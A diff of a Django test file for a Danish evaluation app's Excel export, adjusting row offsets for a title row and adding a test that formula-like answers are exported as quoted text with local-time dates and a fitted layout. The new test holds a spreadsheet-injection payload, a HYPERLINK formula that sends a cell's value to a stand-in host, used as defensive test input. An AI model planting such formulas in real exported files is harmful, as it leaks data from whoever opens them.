@@ -5,6 +5,7 @@ from io import BytesIO
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import load_workbook
 
 from accounts import roles
@@ -155,7 +156,7 @@ def test_export_opens_with_openpyxl_and_holds_every_answer(client, open_round, b
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     wb = load_workbook(BytesIO(response.content))
     ws = wb.worksheets[0]
-    rows = list(ws.iter_rows(values_only=True))
+    rows = list(ws.iter_rows(min_row=2, values_only=True))  # row 1 is the title
     assert len(rows) == 1 + 85
     assert len(rows[0]) == 6 + len(ANSWER_FIELDS)
     row = next(r for r in rows if r[1] == buf_evaluation.initiative.name)
@@ -169,12 +170,12 @@ def test_export_opens_with_openpyxl_and_holds_every_answer(client, open_round, b
         if isinstance(expected, Decimal):
             got = Decimal(str(got))
         assert got == (expected if expected != "" else None), name
-    history = list(wb.worksheets[1].iter_rows(values_only=True))
+    history = list(wb.worksheets[1].iter_rows(min_row=2, values_only=True))
     assert history[1][2] == "indsendt" and history[1][3] == 1
     # a reporter's export holds only their own administration
     client.force_login(reporter)
     wb = load_workbook(BytesIO(client.get(reverse("evaluations:round_export", args=[open_round.pk])).content))
-    assert {r[0] for r in list(wb.worksheets[0].iter_rows(values_only=True))[1:]} == {"BUF"}
+    assert {r[0] for r in list(wb.worksheets[0].iter_rows(min_row=3, values_only=True))} == {"BUF"}
 
 
 def test_round_page_shows_completion_per_administration_and_focus_area(client, open_round, buf_evaluation, reporter,
@@ -340,3 +341,31 @@ def test_read_only_page_formats_dates_and_amounts_in_danish(client, buf_evaluati
                 {**COMPLETE_ANSWERS, "budget_tdkk": "1250,5", "submit": "1"})
     html = client.get(reverse("evaluations:evaluation_detail", args=[buf_evaluation.pk])).content.decode()
     assert "1.250,5" in html and "1. januar 2010" in html
+
+
+def test_export_keeps_formula_like_answers_as_text_in_local_time_with_a_readable_layout(client, open_round,
+                                                                                      buf_evaluation, reporter,
+                                                                                      coordinator):
+    attack = '=HYPERLINK("http://example.invalid/?leak="&C3,"Se resultater")'
+    client.force_login(reporter)
+    client.post(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk]),
+                {**COMPLETE_ANSWERS, "effects": attack, "challenges": "=1+1", "methods": "-2+3", "submit": "1"})
+    client.force_login(coordinator)
+    wb = load_workbook(BytesIO(client.get(reverse("evaluations:round_export", args=[open_round.pk])).content))
+    ws = wb.worksheets[0]
+    header = [c.value for c in ws[2]]
+    row = next(r for r in ws.iter_rows(min_row=3) if r[1].value == buf_evaluation.initiative.name)
+    cells = dict(zip(header, row, strict=True))
+    for text in (attack, "=1+1", "-2+3"):
+        cell = next(c for c in row if c.value == text)
+        assert cell.data_type == "s" and cell.quotePrefix, text
+    assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"]
+    ev = Evaluation.objects.get(pk=buf_evaluation.pk)
+    submitted = cells["Indsendt"]
+    local = timezone.localtime(ev.submitted_at).replace(tzinfo=None)  # not UTC with the zone dropped
+    assert abs((submitted.value - local).total_seconds()) < 1
+    assert submitted.number_format == "dd.mm.yyyy hh:mm"
+    assert ws.freeze_panes == "C3" and ws.auto_filter.ref.startswith("A2:")
+    assert str(open_round) in ws["A1"].value
+    assert 8 <= ws.column_dimensions["B"].width <= 60 and ws.column_dimensions["A"].width < 22  # fitted, not 22
+    assert wb.sheetnames == ["Svar", "Historik"]
